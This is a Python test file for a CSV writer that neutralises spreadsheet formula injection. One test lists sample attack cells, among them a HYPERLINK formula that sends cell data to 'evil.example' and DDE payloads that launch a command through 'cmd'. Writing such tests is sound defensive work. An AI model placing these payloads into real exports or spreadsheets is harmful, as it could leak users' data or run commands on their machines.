"""CSV cells a spreadsheet never evaluates (`csvfile`): formula text neutralised, numbers kept,
the text read back exactly once one leading apostrophe is removed."""

import csv
import io

import numpy as np
from hypothesis import given
from hypothesis import strategies as st

from mazesim.csvfile import APOSTROPHE, FORMULA_STARTS, plain_cell, safe_cell, writer


def _written(rows) -> list[list[str]]:
    handle = io.StringIO(newline="")
    writer(handle).writerows(rows)
    return list(csv.reader(io.StringIO(handle.getvalue(), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_issue_s_cells_get_an_apostrophe():
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-A1-B1",
               "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-",
               "-3+A1"]
    assert _written([attacks]) == [[APOSTROPHE + a for a in attacks]]


def test_numbers_stay_numbers_and_text_that_is_a_number_too():
    row = [-3, -2.5, np.int64(-7), np.float64(-0.125), "-3", "+1.5e3", "-.5", "plain", None, True,
           ""]
    assert _written([row]) == [["-3", "-2.5", "-7", "-0.125", "-3", "+1.5e3", "-.5", "plain", "",
                                "True", ""]]


def test_a_leading_apostrophe_is_doubled_so_that_removing_one_gives_the_text():
    assert safe_cell("'=1") == "''=1" and safe_cell("'x") == "''x"
    assert safe_cell("a=1") == "a=1" and safe_cell(" =1") == " =1"
    assert safe_cell(["-x"]) == "['-x']"                    # any other value as its text


_CELLS = st.one_of(st.text(max_size=12), st.integers(), st.floats(allow_nan=False),
                   st.text(alphabet="=+-@\t\r'0123456789.eE", max_size=6), st.none())


@given(st.lists(st.lists(_CELLS, min_size=1, max_size=5), min_size=1, max_size=4))
def test_no_cell_starts_a_formula_and_every_text_reads_back(rows):
    for given_row, read_row in zip(rows, _written(rows), strict=True):
        for value, cell in zip(given_row, read_row, strict=True):
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell
            original = "" if value is None else value if isinstance(value, str) else str(value)
            unescaped = cell[1:] if cell.startswith(APOSTROPHE) else cell
            assert unescaped == original


@given(st.text(max_size=30))
def test_plain_cell_reads_back_what_safe_cell_wrote(text):
    assert plain_cell(safe_cell(text)) == text
